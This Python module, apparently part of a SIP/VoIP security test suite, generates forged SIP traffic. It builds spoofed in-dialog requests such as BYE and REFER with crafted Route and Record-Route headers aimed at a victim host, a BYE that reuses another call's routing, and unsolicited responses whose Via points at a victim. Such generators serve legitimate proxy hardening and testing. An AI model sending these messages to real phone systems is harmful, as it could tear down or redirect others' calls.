"""Requests and answers that claim to belong to calls of others, or lead elsewhere."""

import re
from collections.abc import Iterator

from ringfort.phones.message import Message

METHODS = ("BYE", "INVITE", "UPDATE", "INFO", "REFER", "MESSAGE", "NOTIFY", "ACK", "PRACK")


def forged_requests(call: Message, app: str, victim: str, edge: str) -> Iterator[bytes]:
    """In-dialog-looking requests of somebody who knows all of a call but its Record-Route."""
    aims = {
        "application server": f"sip:call@{app}",
        "contact of the call": _uri(call["Contact"]),
        "foreign host": f"sip:x@{victim}",
    }
    ways = (
        "",
        f"Route: <sip:{edge};lr>\r\n",
        f"Route: <sip:{edge};lr;k={'0' * 24}>\r\n",
        f"Route: <sip:{edge};lr>, <sip:127.66.0.1;lr>\r\n",
        f"Route: <sip:{app};lr>\r\n",
        f"Route: <sip:{victim};lr>\r\n",
        f"Route: <sip:{edge};lr>\r\nRoute: <sip:{victim};lr>\r\n",
        f"Record-Route: <sip:{victim};lr>\r\nRoute: <sip:{edge};lr;r2=on>\r\n",
    )
    for number, (aim, way, method) in enumerate(
        (aim, way, method) for aim in aims.values() for way in ways for method in METHODS
    ):
        yield _request(method, aim, way, call, number)


def other_calls_token(call: Message, other: Message, app: str) -> bytes:
    """A BYE to a call by the Record-Route of another one."""
    routes = "".join(f"Route: {route}\r\n" for route in reversed(other.all("Record-Route")))
    return _request("BYE", _uri(call["Contact"]), routes, call, 0)


def forged_answers(edge: str, victim: str, call: Message) -> Iterator[bytes]:
    """Answers to nothing, whose second Via is the victim's."""
    for status in ("100 Trying", "180 Ringing", "200 OK", "302 Moved", "404 Not Found", "603 No"):
        for method in ("INVITE", "BYE", "OPTIONS", "REGISTER"):
            yield (
                f"SIP/2.0 {status}\r\nVia: SIP/2.0/UDP {edge};branch=z9hG4bK0.1\r\n"
                f"Via: SIP/2.0/UDP {victim};branch=z9hG4bK1\r\nFrom: {call['From']}\r\n"
                f"To: {call['To']}\r\nCall-ID: {call.call_id}\r\nCSeq: 2 {method}\r\n"
                "Content-Length: 0\r\n\r\n"
            ).encode()


def _request(method: str, uri: str, routes: str, call: Message, number: int) -> bytes:
    return (
        f"{method} {uri} SIP/2.0\r\nVia: SIP/2.0/UDP forger:5060;branch=z9hG4bKf{number}\r\n"
        f"{routes}Max-Forwards: 70\r\nFrom: {call['From']}\r\nTo: {call['To']}\r\n"
        f"Call-ID: {call.call_id}\r\nCSeq: {100 + number} {method}\r\n"
        "Contact: <sip:forger@forger>\r\nContent-Length: 0\r\n\r\n"
    ).encode()


def _uri(contact: str) -> str:
    found = re.search(r"<([^>]+)>", contact)
    assert found, contact
    return found[1]
